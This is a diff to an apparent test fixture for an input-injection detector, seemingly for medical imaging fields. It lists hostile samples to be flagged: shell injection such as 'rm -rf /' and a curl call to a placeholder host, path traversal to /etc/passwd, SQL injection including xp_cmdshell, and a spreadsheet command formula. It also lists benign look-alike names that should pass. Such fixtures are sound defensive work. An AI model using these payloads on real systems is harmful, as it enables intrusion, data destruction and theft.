@@ -38,7 +38,7 @@ ACTIVE = [
     ("script", "{{7*7}}"),
     ("script", "$(id)"),
     ("script", "X; rm -rf /"),
-    ("script", "X && curl x.example"),
+    ("script", "X && curl http://x.example/a"),
     ("script", "X|powershell -e"),
     ("path", "../../etc/passwd"),
     ("path", "..\\..\\windows\\win.ini"),
@@ -60,6 +60,10 @@ ACTIVE = [
     ("sql", "x' UNION SELECT password FROM users"),
     ("sql", "1 UNION ALL SELECT NULL"),
     ("sql", "1 union/**/select 1"),
+    ("sql", "x'; SELECT * FROM study"),
+    ("sql", "(select password from users)"),
+    ("sql", "x'; EXEC xp_cmdshell 'dir'"),
+    ("sql", "' and x is null"),
     ("sql", "1; WAITFOR DELAY '0:0:5'"),
     ("sql", "1 and pg_sleep(5)"),
     ("formula", "=cmd|' /C calc'!A0"),
@@ -86,7 +90,9 @@ ORDINARY = [
     "UNION SELECTE", "CREDIT UNION", "Anderson", "Drop^Table", "SELECT^PAT", "O`Neil^D`Arcy", "50 %", "100%", "$100",
     "R&D", "Tom && Jerry", "{1}", "(Smith)", "*", "SMI*", "A?B", "1.5T", "SIGNA Artist (29.1)", "V1.0\\V2.0_(3)", "...",
     "a..b/c", "etc../", "C:D", "12:30:00", "St. John's; or (see 1)", "Johnson 'Jack' Or Smith", "MRN#123", "O'A--B",
-    "Script^Ann", "Image^Or", "Java: the isle",
+    "SMITH;CURL JOHN", "SMITH; CURL J.R.", "TC; RM - CRANEO", "CT; CAT /MRI", "'Select Specialty Hospital'",
+    "(Jones) Select Medical", "the patients' and this is fine", "D'OR 2=山田", '""', '""^""', "(MD) Exec Health",
+    "Smith; exec", "X; shutdown of room 3", "=^^", "-^TARO", "+1|2", "Script^Ann", "Image^Or", "Java: the isle",
 ]  # fmt: skip
 
 ENCODED = [
